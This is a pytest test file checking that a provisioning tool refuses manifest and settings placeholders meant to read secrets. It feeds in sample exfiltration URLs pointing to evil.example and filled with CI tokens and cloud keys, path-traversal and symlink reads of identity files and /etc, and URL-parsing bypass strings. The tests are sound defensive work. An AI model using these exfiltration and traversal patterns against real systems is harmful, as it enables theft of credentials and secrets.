"""A pull request only changes files: it cannot decide what a placeholder may read."""

import os
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest

from provisioner import Folders, Project
from provisioner.errors import ExitCode, ManifestInvalid, SettingInvalid
from provisioner.model.account import Secret
from provisioner.project.outlets import Outlets
from provisioner.settings import secrets

SETTINGS = """\
heartbeat_url: https://monitor.example.com/${env:PING_ID}/${file:ping}
parents:
  default: {api_login: "${env:ACME_LOGIN}", api_key: "${env:ACME_KEY}${file:manifests/key}"}
"""
OWN = (
    *("OCTOPUSH_API_LOGIN", "OCTOPUSH_API_KEY", "OCTOPUSH_API_KEY_ACME", "ACME_LOGIN", "ACME_KEY", "PING_ID"),
    *("PROVISIONER_IDENTITY", "PROVISIONER_PUSH_TOKEN", "PROVISIONER_HEARTBEAT_URL", "provisioner_identity"),
    *("CI_JOB_TOKEN", "GITHUB_TOKEN", "GH_TOKEN", "GITLAB_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "RUNNER_TOKEN"),
    *("PGPASSWORD", "AWS_SECRET_ACCESS_KEY", "AZURE_STORAGE_ACCOUNT_KEY", "GOOGLE_SERVICE_ACCOUNT_KEY"),
)
FIELDS = ("first_name", "password", "callback_url_for_visits", "email_for_inbounds")
PLACE = "https://evil.example/?t={}"
IDENTITY = "AGE-SECRET-KEY-1NOTONEATALL"


def project(tmp_path: Path, *, interactive: bool = False, settings: str = SETTINGS, **environ: str) -> Project:
    """Open a project in ``tmp_path``; the user's folder has an identity, and ``environ`` sets variables."""
    (tmp_path / "p" / "manifests").mkdir(parents=True, exist_ok=True)
    (tmp_path / "p" / "provisioner.yaml").write_text(settings)
    folders = Folders(tmp_path / "home", tmp_path / "home")
    folders.config.mkdir(exist_ok=True)
    folders.identity.write_text(IDENTITY)
    known = {f"PROVISIONER_{name}": value for name, value in environ.items()}
    return Project.open(tmp_path / "p", environ=known, folders=folders, interactive=interactive)


def refusals(this: Project, text: str, field: str = "callback_url_for_visits") -> list[str]:
    """Return why validate, and therefore plan, refuses a manifest with ``text`` in ``field``."""
    fields = {"first_name": "a", "last_name": "b", field: text}
    path = this.settings.base / "manifests" / "m.csv"
    path.write_text(f"name,{','.join(fields)}\nparis,{','.join(fields.values())}\n")
    found = this.validate()
    if found.errors:
        with pytest.raises(ManifestInvalid):
            this.plan()
    return [each.message for each in found.errors]


@pytest.mark.parametrize("variable", OWN)
def test_a_manifest_cannot_send_our_own_secrets_whatever_the_list_says(tmp_path: Path, variable: str) -> None:
    for listed in ({"PLACEHOLDERS": f"* {variable} ./*"}, {}):
        this = project(tmp_path, interactive=True, **listed)
        (message,) = refusals(this, PLACE.format(f"${{env:{variable}}}"))
        assert f"may not read {variable}: secrets of the project" in message


@pytest.mark.parametrize("field", FIELDS)
def test_placeholders_are_checked_in_every_field(tmp_path: Path, field: str) -> None:
    text = {"callback_url_for_visits": PLACE, "email_for_inbounds": "{}@evil.example"}.get(field, "{}")
    assert refusals(project(tmp_path, PLACEHOLDERS="*"), text.format("${env:OCTOPUSH_API_KEY}"), field)


def test_the_final_read_checks_placeholders_again(tmp_path: Path) -> None:
    this = project(tmp_path, PLACEHOLDERS="HOOK_*")
    for name in ("OCTOPUSH_API_KEY", "OTHER"):
        with pytest.raises(SettingInvalid, match=f"may not read {name}"):
            this.readers.manifests.values(f"${{env:{name}}}", tmp_path)


def test_only_what_the_environment_lists_is_read(tmp_path: Path) -> None:
    this = project(tmp_path, PLACEHOLDERS="HOOK_* PARIS_?")
    (message,) = refusals(this, PLACE.format("${env:STRIPE_SECRET_KEY}"))
    assert "may not read STRIPE_SECRET_KEY: it is not listed in PROVISIONER_PLACEHOLDERS" in message
    for name in ("HOOK", "XHOOK_A", "hook_a", "PARIS_12"):
        assert refusals(this, PLACE.format(f"${{env:{name}}}"))
    reader = this.readers.manifests
    assert [None, None] == [reader.refused(f"${{env:{name}}}", tmp_path) for name in ("HOOK_A", "PARIS_1")]


@pytest.mark.parametrize("list_", [None, ""])
def test_without_a_list_and_without_a_terminal_nothing_is_read(tmp_path: Path, list_: str | None) -> None:
    this = project(tmp_path, **({} if list_ is None else {"PLACEHOLDERS": list_}))
    assert refusals(this, PLACE.format("${env:HOOK_TOKEN}"))
    assert refusals(this, PLACE.format("${file:token}"))
    assert not refusals(this, PLACE.format("plain"))


def test_a_person_at_a_terminal_may_read_anything_else(tmp_path: Path) -> None:
    reader = project(tmp_path, interactive=True).readers.manifests
    base = tmp_path / "p" / "manifests"
    assert reader.refused("${env:HOOK_TOKEN}${file:secrets/token}", base) is None
    assert project(tmp_path, interactive=True, PLACEHOLDERS="").readers.manifests.refused("${env:HOOK_TOKEN}", base)


def test_every_refused_placeholder_is_named(tmp_path: Path) -> None:
    text = "${env:A}${env:CI_TOKEN}${env:B}${file:../x}${env:GITHUB_TOKEN}${env:A}"
    (message,) = refusals(project(tmp_path, PLACEHOLDERS=""), PLACE.format(text))
    assert all(f"may not read {names}:" in message for names in ("CI_TOKEN, GITHUB_TOKEN", "A, B", "../x"))


def test_the_list_comes_only_from_the_environment(tmp_path: Path) -> None:
    with pytest.raises(SettingInvalid, match="placeholders is not a known field"):
        project(tmp_path, settings="placeholders: '*'\n")
    (tmp_path / "p" / ".env").write_text("PROVISIONER_PLACEHOLDERS=*\n")
    assert refusals(project(tmp_path), PLACE.format("${env:HOOK_TOKEN}"))


# ── Files ────────────────────────────────────────────────────────────────────


def _links(base: Path, to: str) -> None:
    (base / "token").symlink_to(to)


ELSEWHERE: dict[str, tuple[str, Callable[[Path], object]]] = {
    "the identity": ("../../home/identity.txt", Path.exists),
    "up again": ("secrets/../../provisioner.yaml", Path.exists),
    "an absolute path": ("/etc/hostname", Path.exists),
    "a parent's key": ("key", lambda base: (base / "key").write_text("k")),
    "the heartbeat's token": ("../ping", Path.exists),
    "a link": ("token", lambda base: _links(base, "/etc/hostname")),
    "a link to the identity": ("token", lambda base: _links(base, "../../home/identity.txt")),
    "a link to a folder": ("token/x", lambda base: _links(base, "../..")),
    "the identity's other name": ("token", lambda base: os.link(base.parents[1] / "home/identity.txt", base / "token")),
    "a folder that is a link": ("secrets/hostname", lambda base: (base / "secrets").symlink_to("/etc")),
    "git's": (".git/config", Path.exists),
}


@pytest.mark.parametrize("case", ELSEWHERE)
@pytest.mark.parametrize("list_", [None, "* ./* secrets/*"])
def test_no_file_outside_the_project_and_none_of_our_own_is_read(tmp_path: Path, case: str, list_: str | None) -> None:
    this = project(tmp_path, interactive=True, **({} if list_ is None else {"PLACEHOLDERS": list_}))
    base = tmp_path / "p" / "manifests"
    path, prepare = ELSEWHERE[case]
    prepare(base)
    (message,) = refusals(this, PLACE.format(f"${{file:{path}}}"))
    assert "may not read" in message
    with pytest.raises(SettingInvalid, match="may not read"):
        this.readers.manifests.values(f"${{file:{path}}}", base)


def test_only_files_that_the_list_names_are_read(tmp_path: Path) -> None:
    outside = tmp_path / "run" / "secrets"
    base = tmp_path / "p" / "manifests"
    this = project(tmp_path, PLACEHOLDERS=f"secrets/* manifests/more/token {outside}/*")
    for folder in (outside, base / "secrets" / "..data", base / "more"):
        folder.mkdir(parents=True)
        (folder / "token").write_text(f"{folder.name}\n")
    # A mount of Kubernetes has links that stay inside it.
    (base / "secrets" / "token").symlink_to("..data/token")
    reader = this.readers.manifests
    texts = ("${file:secrets/token}", "${file:./more/token}", f"${{file:{outside}/token}}")
    assert ["..data", "more", "secrets"] == [reader.expand(each, base) for each in texts]
    (base / "secrets" / "out").symlink_to("../more/token")
    for path in ("token", "more/other", f"{outside}/../x", "secrets/out", f"{outside}2/token"):
        assert reader.refused(f"${{file:{path}}}", base) is not None


def test_a_copy_of_an_identity_is_not_read_either(tmp_path: Path) -> None:
    this = project(tmp_path, PLACEHOLDERS="COPY ./*", COPY="x")
    (tmp_path / "p" / "manifests" / "copy").write_text(IDENTITY.lower())
    with pytest.raises(SettingInvalid, match="contains an identity") as caught:
        this.readers.manifests.expand("${file:copy}", tmp_path / "p" / "manifests")
    assert IDENTITY.lower() not in caught.value.message


# ── The heartbeat, and the parents' credentials ──────────────────────────────


@pytest.mark.parametrize(
    "address",
    [
        *(f"https://evil.example/${{env:{name}}}" for name in OWN if name != "PING_ID"),
        *(f"https://evil.example/${{file:{path}}}" for path in ("../home/identity.txt", "manifests/key")),
    ],
)
def test_a_heartbeat_address_from_a_pull_request_gets_none_of_our_secrets(tmp_path: Path, address: str) -> None:
    settings = SETTINGS.replace(SETTINGS.splitlines()[0], f"heartbeat_url: {address}")
    with pytest.raises(SettingInvalid, match=r"^The setting heartbeat_url may not read "):
        project(tmp_path, interactive=True, settings=settings)


def test_the_heartbeat_reads_its_own_token_if_it_is_listed(tmp_path: Path) -> None:
    (tmp_path / "p").mkdir()
    (tmp_path / "p" / "ping").write_text("abc")
    text, base = "https://m.example/${env:TOKEN}/${file:ping}", tmp_path / "p"
    outside = tmp_path / "run"
    outside.mkdir()
    (outside / "ping").write_text("out")
    this = project(
        tmp_path, settings=f"heartbeat_url: https://m.example/${{file:{outside}/ping}}\n", PLACEHOLDERS=f"{outside}/*"
    )
    assert "https://m.example/out" == this.readers.heartbeat.expand(this.settings.heartbeat_url or "", base)
    for list_, address in (("TOKEN ./ping", "https://m.example/t/abc"), ("TOKEN", None), ("", None)):
        this = project(tmp_path, settings=f"heartbeat_url: {text}\n", PLACEHOLDERS=list_)
        reader = this.readers.heartbeat
        if address is None:
            with pytest.raises(SettingInvalid, match="is not listed in PROVISIONER_PLACEHOLDERS"):
                secrets.heartbeat(text, reader, base)
        else:
            assert Secret(address) == secrets.heartbeat(text, replace(reader, environ={"TOKEN": "t"}), base)


@pytest.mark.parametrize(
    "address",
    ["http://evil.example/", "http://10.0.0.1/", "http://127.0.0.1.evil.example/", "http://127.0.0.1@evil.example/",
     "http://127.0.0.1\\@evil.example/", "http://[::2]/", "//evil.example", "ftp://127.0.0.1/"],
)  # fmt: skip
def test_the_heartbeat_uses_plain_http_only_to_this_machine(tmp_path: Path, address: str) -> None:
    reader = project(tmp_path).readers.heartbeat
    with pytest.raises(SettingInvalid, match="The setting heartbeat_url is "):
        secrets.heartbeat(address, reader, tmp_path)
    for good in ("http://127.0.0.1:9/x", "http://[::1]/", "http://localhost/", "https://evil.example/"):
        assert Secret(good) == secrets.heartbeat(good, reader, tmp_path)


@pytest.mark.parametrize("empty", ["", " \t"])
def test_an_empty_variable_turns_the_heartbeat_off(tmp_path: Path, empty: str) -> None:
    this = project(tmp_path, settings="heartbeat_url: https://evil.example/\n", HEARTBEAT_URL=empty)
    assert this.settings.heartbeat_url is None
    outlets = Outlets(pytest.fail)
    # A command prepares the address from the variable before it has read the settings.
    outlets.prepare_call(empty, this.readers.heartbeat, tmp_path)
    outlets.call(ExitCode.DONE)


@pytest.mark.parametrize("name", ["PROVISIONER_IDENTITY", "GITHUB_TOKEN", "CI_JOB_TOKEN"])
def test_a_pull_request_cannot_use_our_secrets_as_a_parents_credentials(tmp_path: Path, name: str) -> None:
    settings = f'parents:\n  acme: {{api_login: "${{env:{name}}}", api_key: "${{env:K}}"}}\n'
    (parent,) = project(tmp_path, settings=settings, interactive=True).parents()
    with pytest.raises(SettingInvalid, match=f"The API login of the parent acme may not read {name}"):
        _ = parent.credentials
    path = tmp_path / "home" / "identity.txt"
    settings = f'parents:\n  acme: {{api_login: x, api_key: "${{file:{path}}}"}}\n'
    (parent,) = project(tmp_path, settings=settings, interactive=True).parents()
    with pytest.raises(SettingInvalid, match="The API key of the parent acme may not read"):
        _ = parent.credentials
